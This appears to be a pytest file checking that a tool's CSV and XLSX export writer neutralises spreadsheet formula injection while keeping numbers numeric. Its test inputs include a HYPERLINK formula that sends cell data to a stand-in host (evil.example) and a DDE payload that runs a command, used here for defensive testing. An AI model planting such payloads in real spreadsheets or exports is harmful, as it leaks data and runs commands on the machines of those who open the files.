"""The export writer neutralises formulas in CSV and XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from govtool.core import exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_start_a_formula_get_an_apostrophe_and_come_back(value):
    content = exports.to_csv(["title"], [[value]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[1][0] == "'" + value
    assert exports.restore(rows[1][0]) == value


def test_xlsx_never_holds_a_formula_and_numbers_stay_numbers():
    content = exports.to_xlsx(["title", "n"], [[v, 3] for v in HOSTILE], sheet_title="T")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert [sheet.cell(row=i + 2, column=1).value for i in range(len(HOSTILE))] == HOSTILE
    assert sheet.cell(row=2, column=2).value == 3 and sheet.cell(row=2, column=2).data_type == "n"


def test_plain_text_is_unchanged():
    assert exports.neutralise("Schülerzahlen 2025") == "Schülerzahlen 2025"
    assert exports.restore("'Zitat'") == "'Zitat'"
